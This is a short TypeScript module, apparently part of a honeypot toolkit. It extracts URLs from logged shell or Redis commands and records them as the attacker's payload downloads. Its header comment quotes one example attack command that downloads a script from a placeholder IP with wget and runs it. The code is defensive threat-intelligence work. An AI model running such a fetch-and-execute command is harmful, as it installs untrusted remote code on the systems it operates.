// URLs inside a shell or Redis command ("cd /tmp; wget http://203.0.113.88/w.sh; sh w.sh"): for honeypots that log
// the command but no download of their own (Adbhoney, Redishoneypot), these are the attacker's payload servers.
import type { FileTransfer } from '../attack-event.js';

// Up to the first character a shell would end the word at (quotes, separators, redirections, grouping).
const URL_IN_COMMAND = /\b(?:https?|ftp|tftp):\/\/[^\s'"`;|&<>(){}\\]{1,2048}/gi;
const MAX_URLS = 4;

/** The URLs a command names, as downloads without a known hash (indicators validates each one). */
export function downloadsIn(command: string): FileTransfer[] {
  const urls = new Set<string>();
  for (const match of command.matchAll(URL_IN_COMMAND)) {
    urls.add(match[0]);
    if (urls.size === MAX_URLS) break;
  }
  return [...urls].map((url) => ({ url }));
}
